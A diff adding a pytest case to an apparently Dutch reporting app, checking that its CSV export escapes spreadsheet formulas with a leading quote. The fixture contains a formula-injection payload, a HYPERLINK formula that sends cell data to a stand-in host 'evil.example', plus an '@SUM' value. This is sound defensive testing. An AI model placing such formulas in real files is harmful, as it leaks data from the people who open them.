@@ -172,3 +172,14 @@ def test_cli_writes_nothing_without_meldingen(db: Any, tmp_path: Path) -> None:
     assert result.exit_code != 0
     assert "geen meldingen" in result.output
     assert not target.exists()
+
+
+def test_a_category_name_that_is_a_formula_is_written_as_text(db: Any) -> None:
+    """Category names come from the admin or from imported exports: one that a spreadsheet would run
+    ('=HYPERLINK(...)') gets a leading quote in the csv, as in the staff export (docs/security.md)."""
+    evil = Category.objects.create(slug="evil", naam='=HYPERLINK("http://evil.example/?x="&A1,"klik")')
+    make_melding(aangemaakt=_at(2024, 4, 2), categorie=evil, buurt_code="", buurt_naam="@SUM(A1)")
+    text = cijfers.to_csv(cijfers.meldpunt_cijfers("cli:beheer"))
+    row = next(line for line in text.splitlines() if ";evil;" in line)
+    assert row.startswith("\"'=HYPERLINK(")
+    assert ";'@SUM(A1);" in row
